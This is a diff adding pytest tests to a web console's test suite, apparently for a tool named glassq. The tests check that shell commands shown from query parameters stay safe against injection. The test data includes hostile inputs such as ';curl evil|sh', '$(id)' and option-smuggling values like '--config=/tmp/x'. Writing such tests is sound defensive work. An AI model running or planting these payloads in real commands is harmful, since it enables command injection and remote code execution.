@@ -2,12 +2,17 @@
 
 from __future__ import annotations
 
+import html
 import json
+import re
+import shlex
 from datetime import UTC, datetime, timedelta
 from typing import TYPE_CHECKING, Any
+from urllib.parse import quote
 
 import pytest
 
+from glassq.console.filtering import quoted
 from glassq.ledger import Entry, open_ledger
 from glassq.operations import activity, follow, schedules, sources
 from glassq.operations.document import to_json
@@ -207,6 +212,34 @@ def test_live_can_be_narrowed(viewer: Browser) -> None:
     assert [row["state"] for row in viewer.json("/live.json?state=done")] == ["done"]
     assert viewer.json("/live.json?source=github") == []
     assert len(viewer.json("/live.json?tube=glassq")) == 2
+
+
+@pytest.mark.parametrize(
+    "path", ["/live?tube={}", "/live?source={}", "/activity?who={}", "/activity?did={}", "/buried?words={}"]
+)
+@pytest.mark.parametrize("evil", [";curl evil|sh", "$(id)", "`id`", "a' b", "--config=/tmp/x", "-x"])
+def test_a_link_by_mail_puts_nothing_into_the_shell_that_its_command_is_pasted_into(
+    viewer: Browser, path: str, evil: str
+) -> None:
+    answer = viewer.get(path.format(quote(evil)))
+    assert answer.status_code == 200
+    shown = re.search(r'<code id="command">(.*?)</code>', answer.text, re.DOTALL)
+    assert shown is not None
+    words = shlex.split(html.unescape(shown[1]))
+    option = path.partition("?")[2].partition("=")[0]
+    apart = [f"--{option}", evil]
+    if option == "words":
+        apart = [f"words={evil}"]
+    elif evil.startswith("-"):
+        # it would be taken for an option of its own
+        apart = [f"--{option}={evil}"]
+    assert words[-len(apart) :] == apart
+
+
+def test_a_reference_that_looks_like_an_option_is_none() -> None:
+    assert quoted("--config=/tmp/x") == "-- --config=/tmp/x"
+    assert quoted("swf:a;b") == "'swf:a;b'"
+    assert quoted("20261129T0001-ab") == "20261129T0001-ab"
 
 
 def test_activity_shows_who_did_what(viewer: Browser, at_work: Site) -> None:
